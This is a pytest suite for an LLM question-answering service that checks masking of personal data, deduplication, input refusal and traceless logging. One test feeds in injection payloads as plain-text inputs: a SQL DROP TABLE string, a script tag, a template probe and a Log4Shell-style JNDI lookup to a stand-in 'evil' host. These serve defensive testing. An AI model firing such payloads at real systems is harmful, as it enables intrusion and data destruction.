"""Asking over HTTP: what is stored, what is refused, and that nothing refused leaves a trace."""

import asyncio
from collections.abc import Sequence
from dataclasses import replace

import httpx
import pytest
from sqlalchemy import select, text
from sqlalchemy.orm import Session

from llm_service.client import ConversationKey, Route, ServiceError
from llm_service.store.models import Base, Conversation, Turn

CUSTOMER = ConversationKey(channel="web", thread="thread-1", user="kim.minsu@example.com", audience="customer")
ROUTE = Route(intent="ask_knowledge", confidence=0.97, by="rasa", milliseconds=3.5)
QUESTION = "예금자 보호 한도는 얼마인가요?"


async def test_a_question_is_stored_masked_and_returned_as_it_was_stored(service) -> None:
    accepted = await service.client.create_turn("event-1", CUSTOMER, "제 번호는 010-1234-5678입니다. 한도가 얼마죠?")
    assert "010-1234-5678" not in accepted.masked_text
    assert "<PHONE_1>" in accepted.masked_text
    assert accepted.entity_counts == {"PHONE": 1}
    assert (accepted.state, accepted.replayed) == ("received", False)
    assert accepted.timings["mask"] > 0
    view = await service.client.turn(accepted.turn_id, accepted.conversation_id)
    assert view.question == accepted.masked_text


async def test_the_same_event_is_the_same_turn(service) -> None:
    first = await service.client.create_turn("event-1", CUSTOMER, QUESTION)
    again = await service.client.create_turn("event-1", CUSTOMER, QUESTION)
    assert again == replace(first, replayed=True)


async def test_an_event_delivered_many_times_at_once_is_stored_once(service) -> None:
    delivered = await asyncio.gather(*(service.client.create_turn("event-1", CUSTOMER, QUESTION) for _ in range(16)))
    assert len({turn.turn_id for turn in delivered}) == 1
    assert sum(not turn.replayed for turn in delivered) == 1


async def test_questions_of_one_thread_at_once_get_places_of_their_own(service) -> None:
    turns = await asyncio.gather(*(service.client.create_turn(f"event-{n}", CUSTOMER, QUESTION) for n in range(12)))
    assert len({turn.conversation_id for turn in turns}) == 1
    with Session(service.database) as session:
        positions = session.scalars(select(Turn.position).order_by(Turn.position)).all()
    assert positions == list(range(1, 13))


async def test_neither_the_user_nor_the_thread_is_in_the_records_by_name(service) -> None:
    await service.client.create_turn("event-1", CUSTOMER, QUESTION)
    with Session(service.database) as session:
        stored = session.scalars(select(Conversation)).one()
    assert len(stored.user_key) == len(stored.thread_key) == 64
    assert not {CUSTOMER.user, CUSTOMER.thread} & set(_everything_stored(service))


@pytest.mark.parametrize(
    "other",
    [
        replace(CUSTOMER, user="lee"),
        replace(CUSTOMER, thread="thread-2"),
        replace(CUSTOMER, audience="staff"),
        replace(CUSTOMER, channel="slack"),
    ],
    ids=["another person", "another thread", "another role", "another channel"],
)
async def test_a_conversation_is_one_thread_of_one_person_in_one_role(service, other: ConversationKey) -> None:
    mine = await service.client.create_turn("event-1", CUSTOMER, QUESTION)
    theirs = await service.client.create_turn("event-1", other, QUESTION)
    assert theirs.conversation_id != mine.conversation_id


async def test_placeholders_are_numbered_through_a_conversation(service) -> None:
    await service.client.create_turn("event-1", CUSTOMER, "010-1234-5678 번호로 안내해 주세요")
    second = await service.client.create_turn("event-2", CUSTOMER, "010-8765-4321 번호도 등록해 주세요")
    assert "<PHONE_2>" in second.masked_text


# Where the index and the counting by hours stand: written when the service starts, of nobody.
WRITTEN_AT_THE_START = {"index_generations", "index_statistics", "hour_counting"}
REFUSED = [
    ("", 422, "text_empty"),
    ("  \n\t ", 422, "text_empty"),
    ("가" * 20_000, 413, "text_too_long"),
    ("가" * 4_001, 413, "text_too_long"),
    ("\x00\x01\x02 binary canary", 422, "text_unreadable"),
    ("canary\x00", 422, "text_unreadable"),
    ("\x7fELF\x02\x01", 422, "text_unreadable"),
    ("\ufffd\ufffd\ufffd canary", 422, "text_unreadable"),
    ("😀🎉👍🏽", 422, "text_without_words"),
    ("1️⃣2️⃣", 422, "text_without_words"),
    ("?!...", 422, "text_without_words"),
    ("/restart", 422, "text_is_command"),
    ('/ask_knowledge{"topic": "canary"}', 422, "text_is_command"),
    ("  /restart", 422, "text_is_command"),
    ("\u200b/restart", 422, "text_is_command"),
    ("／restart", 422, "text_is_command"),
]


@pytest.mark.parametrize(("typed", "status", "code"), REFUSED)
async def test_bad_input_is_refused_with_a_code_and_leaves_no_trace(
    service, typed: str, status: int, code: str
) -> None:
    with pytest.raises(ServiceError) as refused:
        await service.client.create_turn("event-1", CUSTOMER, typed)
    assert (refused.value.status, refused.value.code) == (status, code)
    assert refused.value.message
    assert refused.value.message_ko
    assert _everything_stored(service) == []
    written = service.logs.getvalue()
    assert code in written
    assert "canary" not in written
    assert len(typed.strip()) < 5 or typed.strip() not in written


@pytest.mark.parametrize(
    "typed",
    [
        "'; DROP TABLE turns; --",
        "<script>alert('한도')</script>",
        "금리/수수료 표가 있나요?",
        "1/2만 갚아도 되나요",
        "{{ 7 * 7 }} ${jndi:ldap://evil/a}",
        "줄\n바꿈\t질문",
    ],
)
async def test_sql_html_and_templates_are_plain_text(service, typed: str) -> None:
    accepted = await service.client.create_turn("event-1", CUSTOMER, typed)
    view = await service.client.turn(accepted.turn_id, accepted.conversation_id)
    assert view.question == typed


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        (b"{canary", 400, "malformed_body"),
        (b'{"text": "\xff\xfe canary"}', 400, "malformed_body"),
        (b'"canary"', 422, "invalid_request"),
        (b'{"text": {"canary": 1}}', 422, "invalid_request"),
        (b'{"canary": "canary"}', 422, "invalid_request"),
        (b'{"text": "' + b"canary" * 20_000 + b'"}', 413, "body_too_large"),
    ],
)
async def test_a_malformed_body_is_refused_without_being_repeated(service, body: bytes, status: int, code: str) -> None:
    reply = await _post(service, "/v1/turns", body)
    assert (reply.status_code, reply.json()["error"]["code"]) == (status, code)
    assert "canary" not in reply.text
    assert "canary" not in service.logs.getvalue()


async def test_a_field_that_nobody_knows_is_not_repeated_by_its_name(service) -> None:
    body = b'{"person": {"channel": "web", "user": "u"}, "reason": "asked", "canary": 1}'
    reply = await _post(service, "/v1/erasures", body)
    assert (reply.status_code, reply.json()["error"]["code"]) == (422, "invalid_request")
    assert "canary" not in reply.text
    assert "canary" not in service.logs.getvalue()


async def test_a_lone_surrogate_is_unreadable_text(service) -> None:
    conversation = b'{"channel":"web","thread":"t","user":"u","audience":"customer"}'
    body = b'{"event_id":"e","conversation":' + conversation + b',"text":"\\ud800"}'
    reply = await _post(service, "/v1/turns", body)
    assert (reply.status_code, reply.json()["error"]["code"]) == (422, "text_unreadable")


async def test_a_body_that_grows_without_saying_its_length_is_cut_off(service) -> None:
    async def endless():
        for _ in range(200):
            yield b'{"x": "' + b"y" * 1024

    async with httpx.AsyncClient(base_url=service.url, headers=_authorisation(service)) as http:
        reply = await http.post("/v1/turns", content=endless(), headers={"Content-Type": "application/json"})
    assert (reply.status_code, reply.json()["error"]["code"]) == (413, "body_too_large")


@pytest.mark.parametrize("turn_id", ["0" * 32, "no-such-turn", "%00", "a'--", "가"])
async def test_an_unknown_turn_is_not_found(service, turn_id: str) -> None:
    accepted = await service.client.create_turn("event-1", CUSTOMER, QUESTION)
    with pytest.raises(ServiceError) as refused:
        await service.client.turn(turn_id, accepted.conversation_id)
    assert (refused.value.status, refused.value.code) == (404, "turn_not_found")


CALLS = {
    "view": lambda client, turn, conversation: client.turn(turn, conversation),
    "answer": lambda client, turn, conversation: client.start_answer(turn, conversation, ROUTE),
    "reply": lambda client, turn, conversation: client.store_reply(turn, conversation, ROUTE, "안녕하세요"),
    "stop": lambda client, turn, conversation: client.stop_answer(turn, conversation),
    "judge": lambda client, turn, conversation: client.give_feedback(turn, conversation, "event-1", "up"),
    "read": lambda client, turn, conversation: anext(client.events(turn, conversation)),
}


@pytest.mark.parametrize("call", CALLS)
async def test_somebody_elses_turn_looks_like_an_unknown_one(service, call: str) -> None:
    mine = await service.client.create_turn("event-1", CUSTOMER, QUESTION)
    theirs = await service.client.create_turn("event-1", replace(CUSTOMER, user="lee"), QUESTION)
    for conversation_id in (theirs.conversation_id, "0" * 32, ""):
        with pytest.raises(ServiceError) as refused:
            await CALLS[call](service.client, mine.turn_id, conversation_id)
        assert (refused.value.status, refused.value.code) == (404, "turn_not_found")


async def test_a_reply_that_needs_no_documents_is_kept_masked(service) -> None:
    accepted = await service.client.create_turn("event-1", CUSTOMER, "안녕하세요")
    greeting = Route(intent="greet", confidence=0.99, by="rasa")
    await service.client.store_reply(accepted.turn_id, accepted.conversation_id, greeting, "문의: 010-1234-5678")
    await service.client.store_reply(accepted.turn_id, accepted.conversation_id, greeting, "다른 답")
    view = await service.client.turn(accepted.turn_id, accepted.conversation_id)
    assert (view.state, view.intent, view.answer) == ("replied", "greet", "문의: <PHONE_1>")


async def test_a_replied_turn_is_not_answered_again(service) -> None:
    accepted = await service.client.create_turn("event-1", CUSTOMER, "안녕하세요")
    await service.client.store_reply(accepted.turn_id, accepted.conversation_id, ROUTE, "반갑습니다")
    with pytest.raises(ServiceError) as refused:
        await service.client.start_answer(accepted.turn_id, accepted.conversation_id, ROUTE)
    assert (refused.value.status, refused.value.code) == (409, "turn_already_replied")


def _everything_stored(service) -> Sequence[str]:
    with service.database.connect() as connection:
        return [
            str(value)
            for table in Base.metadata.sorted_tables
            if table.name not in WRITTEN_AT_THE_START
            for row in connection.execute(text(f"SELECT * FROM {table.name}"))
            for value in row
        ]


def _authorisation(service) -> dict[str, str]:
    return {"Authorization": service.client._http.headers["Authorization"]}


async def _post(service, path: str, body: bytes) -> httpx.Response:
    headers = {**_authorisation(service), "Content-Type": "application/json"}
    async with httpx.AsyncClient(base_url=service.url, headers=headers) as http:
        return await http.post(path, content=body)
